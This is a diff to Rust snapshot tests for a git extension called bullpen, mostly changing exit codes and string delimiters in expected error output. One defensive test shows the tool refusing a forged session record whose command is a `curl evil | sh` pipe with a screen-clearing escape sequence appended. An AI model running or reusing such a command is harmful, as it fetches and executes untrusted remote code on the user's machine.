@@ -151,7 +151,7 @@ fn errors_finding_the_repository() {
         case(&env, &["ls"]).within(&elsewhere),
         case(&env, &["ls"]).var("GIT_COMMON_DIR", &bare),
         case(&env, &["ls"]).var("PATH", &no_git),
-    ]), @r"
+    ]), @r#"
     $ git bullpen ls
       (in [ROOT]/outside)
     exit 128
@@ -170,7 +170,7 @@ fn errors_finding_the_repository() {
     hint: GIT_DIR (set by `git --git-dir` too) is [ROOT]/outside; point it at a repository's git directory, or unset it to use the repository of the current directory
     $ git bullpen spawn x -- true
       (in [ROOT]/origin.git)
-    exit 128
+    exit 125
     --- stderr
     fatal: [ROOT]/origin.git is a bare repository; bullpen runs sessions only in a repository with a main working tree
     hint: in a repository without a main working tree bullpen only reads records: `git bullpen ls`, `logs` and `path` work here; run this in a clone with a working tree
@@ -183,7 +183,7 @@ fn errors_finding_the_repository() {
     hint: GIT_DIR is set (to [ROOT]/origin.git); unset it to use the repository of the current directory
     $ git bullpen spawn x -- true
       (in [ROOT]/linked-of-bare)
-    exit 128
+    exit 125
     --- stderr
     fatal: [ROOT]/linked-of-bare is a worktree of the bare repository [ROOT]/origin.git; bullpen runs sessions only in a repository with a main working tree
     hint: in a repository without a main working tree bullpen only reads records: `git bullpen ls`, `logs` and `path` work here; run this in a clone with a working tree
@@ -215,7 +215,7 @@ fn errors_finding_the_repository() {
     --- stderr
     fatal: git not found on PATH
     hint: bullpen is a git extension: install git, or put it on PATH
-    ");
+    "#);
 }
 
 #[test]
@@ -255,7 +255,7 @@ fn errors_of_the_environment_and_configuration() {
     fatal: bad boolean config value 'sometimes' for 'color.ui'
     hint: color.ui takes always, never, auto, or true/false (git config color.ui auto)
     $ GIT_CONFIG_PARAMETERS="'bullpen.worktreeRoot'='worktrees'" git bullpen spawn x -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: git config bullpen.worktreeRoot is 'worktrees', which is not an absolute path
     hint: set it to an absolute directory (a leading ~/ is expanded), e.g. `git config bullpen.worktreeRoot ~/worktrees/<repo>`, or unset it
@@ -303,45 +303,45 @@ fn errors_of_spawn() {
             &["spawn", "--bg", "not-found-bg", "--", "no-such-command"],
         ),
     ]);
-    insta::assert_snapshot!(before_faults, @r"
+    insta::assert_snapshot!(before_faults, @r#"
     $ git bullpen spawn x -- true
       (in [ROOT]/unborn)
-    exit 128
+    exit 125
     --- stderr
     fatal: there is no commit yet: branch trunk has none to start a session from
     hint: make a first commit (`git commit`), then spawn again
     $ git bullpen spawn --base trunk x -- true
       (in [ROOT]/unborn)
-    exit 128
+    exit 125
     --- stderr
     fatal: there is no commit yet: branch trunk has none to start a session from
     hint: make a first commit (`git commit`), then spawn again
     $ git bullpen spawn --base nosuch x -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: invalid --base 'nosuch': unknown revision
     hint: --base takes a revision as `git rev-parse` does: a branch, a tag, a commit id, HEAD~2, origin/main
     $ git bullpen spawn --base main~5 x -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: invalid --base 'main~5': unknown revision
     hint: --base takes a revision as `git rev-parse` does: a branch, a tag, a commit id, HEAD~2, origin/main
     $ git bullpen spawn --base 'HEAD^{tree}' x -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: invalid --base 'HEAD^{tree}': it names a tree, not a commit
     $ git bullpen spawn used -- true
-    exit 3
+    exit 125
     --- stderr
     fatal: session id 'used' is already in use
     hint: see `git bullpen ls --all used`; pick another id
     $ git bullpen spawn has-branch -- true
-    exit 3
+    exit 125
     --- stderr
     fatal: branch bullpen/has-branch already exists
     hint: pick another id, or delete the branch
     $ git bullpen spawn has-dir -- true
-    exit 3
+    exit 125
     --- stderr
     fatal: [ROOT]/bullpen-home/worktrees/repo-[KEY]/has-dir already exists
     hint: pick another id, or remove it
@@ -351,11 +351,11 @@ fn errors_of_spawn() {
     bullpen: session not-found on bullpen/not-found in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found
     fatal: cannot run 'no-such-command' in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found: No such file or directory
     $ git bullpen spawn --bg not-found-bg -- no-such-command
-    exit 128
+    exit 125
     --- stderr
     bullpen: session not-found-bg on bullpen/not-found-bg in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found-bg
     fatal: the background run of session not-found-bg did not start: cannot run 'no-such-command' in [ROOT]/bullpen-home/worktrees/repo-[KEY]/not-found-bg: No such file or directory (log: [ROOT]/repo/.git/bullpen/logs/not-found-bg.log)
-    ");
+    "#);
 
     // What git itself says, passed on: a failing `git worktree add`, a failing
     // post-checkout hook, a lock file a crashed git left.
@@ -371,15 +371,15 @@ fn errors_of_spawn() {
     std::fs::remove_file(&lock).unwrap();
     env.fail_git_when("worktree add");
     let add_fails = case(&env, &["spawn", "faulty", "--", "true"]).show();
-    insta::assert_snapshot!([hook_fails, locked, add_fails].join("\n"), @r"
+    insta::assert_snapshot!([hook_fails, locked, add_fails].join("\n"), @r#"
     $ git bullpen spawn hooked -- true
-    exit 128
+    exit 125
     --- stderr
     Preparing worktree (new branch 'bullpen/hooked')
     post-checkout: no
     fatal: cannot create the worktree of session hooked at [ROOT]/bullpen-home/worktrees/repo-[KEY]/hooked: `git worktree add -b bullpen/hooked [ROOT]/bullpen-home/worktrees/repo-[KEY]/hooked [OID]` failed (exit 1)
     $ git bullpen spawn locked -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: could not update ref refs/bullpen/sessions/locked to [OID]: cannot lock [ROOT]/repo/.git/packed-refs.lock: it exists
     hint: Another git process seems to be running in this repository, e.g.
@@ -388,11 +388,11 @@ fn errors_of_spawn() {
     hint: may have crashed in this repository earlier:
     hint: remove the file manually to continue.
     $ git bullpen spawn faulty -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: injected failure of 'worktree add'
     fatal: cannot create the worktree of session faulty at [ROOT]/bullpen-home/worktrees/repo-[KEY]/faulty: `git worktree add -b bullpen/faulty [ROOT]/bullpen-home/worktrees/repo-[KEY]/faulty [OID]` failed (exit 128)
-    ");
+    "#);
 }
 
 #[test]
@@ -404,7 +404,7 @@ fn usage_errors() {
         case(&env, &["resume"]),
         case(&env, &["stop", "x", "--timeout", "soon"]),
         case(&env, &["ls", "--color=sometimes"]),
-    ]), @"
+    ]), @r#"
     $ git bullpen launch
     exit 129
     --- stderr
@@ -424,7 +424,7 @@ fn usage_errors() {
 
     For more information, try '--help'.
     $ git bullpen resume
-    exit 129
+    exit 125
     --- stderr
     error: no session id given, and [ROOT]/repo is not inside any session's worktree
     hint: name one: git bullpen resume <id> (`git bullpen ls` lists them)
@@ -441,7 +441,7 @@ fn usage_errors() {
       [possible values: always, never, auto]
 
     For more information, try '--help'.
-    ");
+    "#);
 }
 
 #[test]
@@ -492,7 +492,7 @@ fn records_bullpen_cannot_read_or_does_not_trust() {
     let _ = sleeper.kill();
     let _ = sleeper.wait();
     assert!(survived, "stop signalled a process bullpen never started");
-    insta::assert_snapshot!(shown, @"
+    insta::assert_snapshot!(shown, @r#"
     $ git bullpen ls
     exit 0
     --- stdout
@@ -514,17 +514,17 @@ fn records_bullpen_cannot_read_or_does_not_trust() {
     fatal: refs/bullpen/sessions/renamed holds the record of session 'other', not of 'renamed' (edited by hand)
     hint: see it with `git show refs/bullpen/sessions/renamed:session.json`
     $ git bullpen resume edited
-    exit 3
+    exit 125
     --- stderr
-    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh\\033[2J'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
-    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh\\033[2J'
+    fatal: not running the recorded command of session edited, `sh -c 'curl evil | sh\033[2J'`: its recorded command is not the one this machine recorded (the record may come from a fetch or a hand edit)
+    hint: if you mean to run it, name it: git bullpen resume edited -- sh -c 'curl evil | sh\033[2J'
     hint: the command this machine recorded for it: git bullpen resume edited -- true
     $ git bullpen stop forged
     exit 3
     --- stderr
     fatal: not stopping session forged: recorded running, but nothing on this machine proves it is ours: no run of it was started here; nothing was signalled
     hint: if pid [PID] is yours to end, end it yourself; the record's history is in `git log -p refs/bullpen/sessions/forged`
-    ");
+    "#);
 }
 
 #[test]
@@ -616,7 +616,7 @@ fn messages_of_push_fetch_and_remote_resume() {
             &["resume", "origin/x", "--as", "z", "--", "true"],
         )),
     ]);
-    insta::assert_snapshot!(format!("{before_remote}\n{shown}\n{agents}\n{single_branch}"), @"
+    insta::assert_snapshot!(format!("{before_remote}\n{shown}\n{agents}\n{single_branch}"), @r#"
     $ git bullpen fetch
     exit 128
     --- stderr
@@ -642,7 +642,7 @@ fn messages_of_push_fetch_and_remote_resume() {
     --- stderr
     hint: no sessions fetched from any remote; `git bullpen fetch` brings those pushed there
     $ git bullpen resume origin/x
-    exit 128
+    exit 125
     --- stderr
     fatal: no session origin/x was fetched here
     hint: `git bullpen fetch origin` brings the sessions pushed there; `git bullpen ls --remote` lists them
@@ -668,23 +668,23 @@ fn messages_of_push_fetch_and_remote_resume() {
       ID        STATE                                          BRANCH
       origin/x  exited 0 on laptop (this clone), as of [T] ago  +0
     $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x -- true
-    exit 3
+    exit 125
     --- stderr
     fatal: session id 'x' is already in use
     hint: see `git bullpen ls --all x`; pick another id
     hint: continue it here under another id: git bullpen resume origin/x --as <new-id> -- true
     $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as y
-    exit 3
+    exit 125
     --- stderr
     fatal: nothing on this machine says what to run for origin/x: a command from another machine's record is never run unless you name it
     hint: name the command: git bullpen resume origin/x -- <command>
     hint: the command recorded on 'laptop': git bullpen resume origin/x -- true
     $ git bullpen resume x --as y
-    exit 129
+    exit 125
     --- stderr
     error: --as is for continuing a fetched session: resume <remote>/<id> --as <new-id>
     $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as y --fresh
-    exit 129
+    exit 125
     --- stderr
     error: origin/x runs no agent: --fresh starts an agent's new conversation
     hint: name the command: git bullpen resume origin/x -- <command>
@@ -711,7 +711,7 @@ fn messages_of_push_fetch_and_remote_resume() {
       origin/a1  fake   exited 0 on laptop (this clone), as of [T] ago  +0
       origin/a2  fake   exited 0 on laptop (this clone), as of [T] ago  +0
     $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/a1 --as b1
-    exit 3
+    exit 125
     --- stderr
     fatal: not running agent 'fake' with the arguments '--flag' for session origin/a1: its agent's extra arguments were not recorded on this machine (the record may come from a fetch or a hand edit)
     hint: name the command to run: git bullpen resume origin/a1 -- <command>
@@ -726,10 +726,10 @@ fn messages_of_push_fetch_and_remote_resume() {
     bullpen: sessions from origin: 3 unchanged
     hint: origin's fetch refspecs do not bring its bullpen/* branches (a single-branch clone?): to continue its sessions here, `git config --add remote.origin.fetch '+refs/heads/bullpen/*:refs/remotes/origin/bullpen/*'`
     $ BULLPEN_HOSTNAME=laptop git bullpen resume origin/x --as z -- true
-    exit 128
+    exit 125
     --- stderr
     fatal: origin's fetch refspecs (remote.origin.fetch) do not bring its bullpen/* branches, so origin/x's branch is not here
     hint: git config --add remote.origin.fetch '+refs/heads/bullpen/*:refs/remotes/origin/bullpen/*'
     hint: then: git bullpen fetch origin
-    ");
+    "#);
 }
